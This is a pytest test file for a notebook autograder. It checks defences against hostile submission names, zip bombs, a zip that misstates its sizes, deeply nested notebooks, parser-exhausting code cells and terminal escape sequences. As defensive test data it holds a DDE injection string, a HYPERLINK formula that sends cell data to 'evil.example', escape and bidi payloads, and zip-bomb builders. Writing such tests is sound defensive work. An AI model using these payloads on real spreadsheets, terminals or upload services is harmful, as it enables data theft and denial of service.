"""The trusted side against hostile names, archives and notebooks (issue 19, class 6).

Each attack is tested where it lands: ids that name the grader's own files (a whole batch
through the real CLI, then its report and a rerun), ids that differ only by case or Unicode
normalisation, a zip bomb and a zip whose directory lies, a notebook nested 200,000 deep,
code cells that exhaust Python's parser, and escapes in everything the grader prints. Every
test here uses only entry points that existed before the fix, so each one fails on the
grader before it (commit 58b5762) and passes after.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import shutil
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest
from local_run import built
from rich.console import Console

from autograder.batch.collect import collect, safe_id
from autograder.batch.progress import BatchProgress
from autograder.core.assignments import PROJECT_ROOT
from autograder.core.errors import Outcome
from autograder.core.results import (
    CaseResult,
    QuestionResult,
    ReviewFlag,
    SubmissionResult,
    SubmissionStatus,
)
from autograder.grading.submission import SubmissionError, load_submission, parse_notebook
from autograder.outputs import writers

NAME = "01_convolution_pooling"
ESCAPES = "\x1b[2K\x1b]0;pwned\x07\x1b[32mOK\x1b[0m\x9b31m\r\x08\u202e\u2066"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _notebook(*sources: str) -> str:
    return nbformat.writes(nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell(s) for s in sources]))


def _disk_bytes(folder: Path) -> int:
    return sum(p.stat().st_size for p in folder.rglob("*") if p.is_file()) \
        if folder.exists() else 0


# ----------------------------------------------------------------------------- a whole batch


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory) -> tuple[Path, subprocess.CompletedProcess, Path]:
    """One folder of notebooks graded through the CLI: ids that are the grader's own file
    names, a notebook nested 200,000 deep, a cell of 5,000 chained additions, a zip whose
    notebook names carry terminal escapes, and an honest control."""
    base = tmp_path_factory.mktemp("hostile")
    folder = base / "class"
    folder.mkdir()
    reference = nbformat.writes(built(NAME).reference_notebook)
    for sub_id in ("gradebook.csv", "report.html", "submissions", "control"):
        (folder / f"{sub_id}.ipynb").write_text(reference, encoding="utf-8")
    (folder / "deep.ipynb").write_bytes(b"[" * 200_000 + b"]" * 200_000)
    nb = built(NAME).reference_notebook.copy()
    nb.cells = [*nb.cells, nbformat.v4.new_code_cell("x = " + " + ".join(["1"] * 5000))]
    nbformat.write(nb, folder / "deepcode.ipynb")
    with zipfile.ZipFile(folder / "names.zip", "w") as zf:
        zf.writestr(f"a{ESCAPES}.ipynb", reference)
        zf.writestr(f"b{ESCAPES}.ipynb", reference)
    out = base / "out"
    done = _grade(folder, out, base / "tmp")
    return out, done, folder


def _grade(folder: Path, out: Path, tmp: Path) -> subprocess.CompletedProcess:
    tmp.mkdir(exist_ok=True)
    return subprocess.run(
        [sys.executable, str(PROJECT_ROOT / "grader.py"), "grade", "--assignment", NAME,
         str(folder), "--out", str(out), "--jobs", "2", "--seed", "7"],
        capture_output=True, text=True, timeout=900, check=False,
        env={**os.environ, "PYTHONPATH": str(PROJECT_ROOT), "TMPDIR": str(tmp)})


def _rows(out: Path) -> dict[str, dict[str, str]]:
    with (out / "gradebook.csv").open(encoding="utf-8") as handle:
        return {row["submission"]: row for row in csv.DictReader(handle)}


def test_ids_that_name_the_graders_files_are_graded_and_the_batch_goes_on(hostile_batch):
    out, done, _ = hostile_batch
    assert done.returncode == 0, done.stderr[-3000:]
    rows = _rows(out)
    assert set(rows) == {"gradebook.csv", "report.html", "submissions", "control", "deep",
                         "deepcode", "names"}
    for sub_id in ("gradebook.csv", "report.html", "submissions"):
        assert rows[sub_id]["score"] == rows["control"]["score"] == rows["control"]["max_score"]
    assert (out / "gradebook.csv").is_file() and (out / "report.html").is_file()
    report = (out / "report.html").read_text(encoding="utf-8")
    assert "<td>submissions</td><td>7</td>" in report


def test_a_notebook_too_deep_to_parse_is_the_students_error(hostile_batch):
    out, _, _ = hostile_batch
    for sub_id, said in (("deep", "уровней вложенности"), ("deepcode", "нельзя разобрать")):
        row = _rows(out)[sub_id]
        assert row["status"] == "error" and float(row["score"]) == 0, row
        assert said in row["message"] and "внутренняя ошибка" not in row["message"], row
        feedback = next(out.rglob(f"{sub_id}/feedback.md")).read_text(encoding="utf-8")
        assert said in feedback


def test_nothing_a_submission_named_reaches_the_terminal_raw(hostile_batch):
    out, done, _ = hostile_batch
    assert "несколько ноутбуков" in _rows(out)["names"]["message"]
    printed = done.stdout + done.stderr
    assert "names" in printed and "\\x1b" in printed  # the escapes are shown, as text
    raw = RAW.search(printed)
    assert raw is None, repr(printed[max(0, raw.start() - 80):raw.end() + 20])


def test_a_rerun_resumes_and_a_folder_of_the_old_layout_is_read(hostile_batch, tmp_path):
    """Rerun: nothing is graded twice. An output folder written with one folder per id at
    the top (the layout before this fix) is moved into today's and resumed too."""
    out, _, folder = hostile_batch
    again = _grade(folder, out, tmp_path / "tmp")
    assert again.returncode == 0, again.stderr[-3000:]
    assert "7 reused" in again.stdout
    old = tmp_path / "old"
    old.mkdir()
    for entry in (out / "submissions").iterdir():  # the old layout: OUT/<id>/record.json
        if entry.name != "gradebook.csv":  # (that one could not exist there)
            shutil.copytree(entry, old / entry.name)
    resumed = _grade(folder, old, tmp_path / "tmp")
    assert resumed.returncode == 0, resumed.stderr[-3000:]
    assert "6 reused" in resumed.stdout
    assert sorted(p.name for p in (old / "submissions").iterdir()) == sorted(_rows(out))


def test_adopting_the_old_layout_moves_only_a_graders_folders(tmp_path):
    from autograder.outputs.layout import adopt_old_layout  # (added with the fix)
    from autograder.outputs.records import record_text

    out = tmp_path / "out"
    for sub_id in ("ann", "submissions"):  # "submissions": a student of that name
        (out / sub_id).mkdir(parents=True)
        (out / sub_id / "record.json").write_text(record_text(_flagged(sub_id, ""), "key"))
        (out / sub_id / "feedback.md").write_text("# ok")
    (out / "notes").mkdir()  # the instructor's own folder: not the grader's, never moved
    (out / "notes" / "results.json").write_text('{"mine": true}')
    (out / "gradebook.csv").write_text("submission\n")
    assert sorted(adopt_old_layout(out)) == ["ann", "submissions"]
    assert sorted(p.name for p in (out / "submissions").iterdir()) == ["ann", "submissions"]
    assert (out / "submissions" / "submissions" / "feedback.md").read_text() == "# ok"
    assert (out / "notes" / "results.json").is_file() and (out / "gradebook.csv").is_file()
    assert adopt_old_layout(out) == []  # once is enough


# ----------------------------------------------------------------------------- ids


def test_ids_that_differ_only_by_case_or_normalisation_never_share_a_folder(tmp_path):
    for name in ("Ann.ipynb", "ann.ipynb", "Jos\u00e9.ipynb", "Jose\u0301.ipynb",
                 "\uff21\uff4e\uff4e.ipynb"):  # fullwidth "Ann"
        (tmp_path / name).write_text("{}", encoding="utf-8")
    ids = [found.submission_id for found in collect([tmp_path]).submissions]
    folded = [sub_id.casefold() for sub_id in ids]
    assert len(set(folded)) == len(ids) == 5, ids


def test_ids_are_single_plain_folder_names():
    for raw in ("", ".", "..", "...", "/", "=cmd|' /C calc'!A0", "+1+1", "-rf", "@SUM(A1)",
                "\x1b[2K", "a" * 400, "\u0436" * 400, "\u6f22" * 400):
        sub_id = safe_id(raw)
        assert sub_id and sub_id not in (".", "..") and "/" not in sub_id, (raw, sub_id)
        assert not sub_id.startswith((".", "=", "+", "-", "@")), (raw, sub_id)
        assert len(sub_id.encode("utf-8")) <= 120, (raw, len(sub_id.encode()))
        assert safe_id(sub_id) == sub_id and not RAW.search(sub_id)


# ----------------------------------------------------------------------------- zips


def test_a_zip_bomb_is_refused_before_anything_is_extracted(tmp_path):
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("work/hw.ipynb", _notebook("x = 1"))
        with zf.open("work/data.bin", "w", force_zip64=True) as entry:
            for _ in range(200):
                entry.write(bytes(2**20))
    assert bomb.stat().st_size < 300_000
    with pytest.raises(SubmissionError, match="сжат в .* раз"):
        load_submission(bomb, tmp_path / "staging")
    assert _disk_bytes(tmp_path / "staging") == 0


def test_a_zip_of_many_small_bombs_is_refused_by_its_overall_ratio(tmp_path):
    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("hw.ipynb", _notebook("x = 1"))
        for i in range(40):  # each under the per-entry floor, together 160 MiB
            zf.writestr(f"part{i}.bin", bytes(4 * 2**20))
    with pytest.raises(SubmissionError, match="распаковывается в .* раз"):
        load_submission(archive, tmp_path / "staging")
    assert _disk_bytes(tmp_path / "staging") == 0


def _lie_about_size(archive: Path, member: str, declared: int) -> None:
    """Rewrite the central directory's uncompressed size of ``member``."""
    data = bytearray(archive.read_bytes())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46:at + 46 + name_length] == member.encode():
            struct.pack_into("<I", data, at + 24, declared)
        at += 4
    archive.write_bytes(bytes(data))


def test_a_zip_whose_directory_lies_about_sizes_is_the_students_error(tmp_path):
    archive = tmp_path / "liar.zip"
    with zipfile.ZipFile(archive, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("hw.ipynb", _notebook("x = 1"))
        zf.writestr("big.bin", os.urandom(3 * 2**20))
    _lie_about_size(archive, "big.bin", 10)
    with pytest.raises(SubmissionError, match="liar.zip"):
        load_submission(archive, tmp_path / "staging")
    assert _disk_bytes(tmp_path / "staging") < 2**20  # extraction stopped at the declared size


def test_a_zips_files_are_extracted_once_and_only_its_notebooks_folder(tmp_path):
    archive = tmp_path / "alice.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("work/hw.ipynb", _notebook("x = 1"))
        zf.writestr("work/convnet.pt", b"weights")
        zf.writestr("other/huge.bin", bytes(2**20))
        zf.writestr("__MACOSX/work/._hw.ipynb", b"junk")
    submission = load_submission(archive, tmp_path / "staging")
    on_disk = sorted(p.relative_to(tmp_path / "staging").as_posix()
                     for p in (tmp_path / "staging").rglob("*"))
    assert on_disk == ["convnet.pt", "hw.ipynb"]
    assert submission.files_dir == tmp_path / "staging"


# ----------------------------------------------------------------------------- notebooks


def test_a_notebook_nested_200000_deep_is_the_students_error():
    for raw in (b"[" * 200_000 + b"]" * 200_000, b"[" * 200_000,
                b'{"cells": [], "nbformat": 4, "metadata": ' + b'{"a": ' * 1000 + b"1"
                + b"}" * 1000 + b"}"):
        with pytest.raises(SubmissionError, match="уровней вложенности"):
            parse_notebook(raw, "deep.ipynb")


def test_brackets_inside_strings_do_not_count_as_nesting():
    source = "x = '" + "[" * 5000 + "'"
    nb = json.loads(_notebook(source))
    nb["metadata"]["note"] = "\\\"" + "{" * 5000
    parsed, _ = parse_notebook(json.dumps(nb).encode(), "ok.ipynb")
    assert parsed.cells[0].source == source


def test_a_cell_that_exhausts_the_parser_is_refused_with_or_without_its_magics():
    """``ast.parse`` raises MemoryError or RecursionError on these; the static reading parses
    a cell with ``!`` lines again without them, so that variant is checked too."""
    from autograder.grading.submission import check_code_cells  # (added with the fix)

    for source in ("x = " + "-" * 100_000 + "1", "x = " + " + ".join(["1"] * 5000),
                   "!pip install numpy\nx = " + "-" * 100_000 + "1"):
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(source)])
        with pytest.raises(SubmissionError, match="ячейку 1 нельзя разобрать"):
            check_code_cells(nb, "deep.ipynb")
    fine = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(s) for s in (
        "%%time\nx = 1", "def f(:\n", "y = " + "(" * 50 + "1" + ")" * 50,
        built(NAME).reference_notebook.cells[-1].source)])
    check_code_cells(fine, "fine.ipynb")
    check_code_cells(built(NAME).reference_notebook, "reference.ipynb")


# ----------------------------------------------------------------------------- terminal


def _flagged(sub_id: str, seen: str, message: str = "") -> SubmissionResult:
    flag = ReviewFlag("corr2d", "computed_attribute", "a computed name", cell=3, line=2,
                      seen=seen)
    case = CaseResult("corr2d", "test_corr2d", False, 1.0, 1.0, Outcome.PASSED, "")
    question = QuestionResult("corr2d", 1.0, 1.0, (case,), review=(flag,))
    return SubmissionResult(sub_id, SubmissionStatus.GRADED, message, (question,))


def test_the_end_of_batch_review_list_shows_escapes_as_text():
    listing = writers.review_list([_flagged("ann", f"getattr(np, 'corre' + 'late'){ESCAPES}")])
    assert "getattr(np" in listing and "\\x1b" in listing and "\\u202e" in listing
    assert not RAW.search(listing), repr(listing)


def test_progress_lines_show_escapes_as_text(caplog):
    caplog.set_level(logging.INFO, logger="autograder")
    progress = BatchProgress(Console(file=io.StringIO(), force_terminal=False, width=200))
    progress.total = 1
    progress.done(_flagged(f"ann{ESCAPES}", "", f"names.zip: несколько ноутбуков (a{ESCAPES})"))
    line = caplog.text
    assert "несколько ноутбуков" in line and "\\x1b" in line
    assert not RAW.search(line), repr(line)


def test_the_found_submissions_are_described_with_escapes_as_text(tmp_path):
    for folder in ("x", "y"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / f"ann{ESCAPES.replace('/', '')}.ipynb").write_text("{}")
    described = collect([tmp_path / "x", tmp_path / "y"]).describe()
    assert "duplicate id" in described and "\\x1b" in described
    assert not RAW.search(described), repr(described)


def test_gradebook_cells_never_start_a_spreadsheet_formula():
    """A message begins with a file name the student chose (``=HYPERLINK(...).ipynb: ...``)."""
    result = SubmissionResult("ann", SubmissionStatus.ERROR,
                              '=HYPERLINK("http://evil.example/?"&A1,"click").ipynb: not JSON', ())
    text = writers.gradebook_csv([result], ["corr2d"])
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
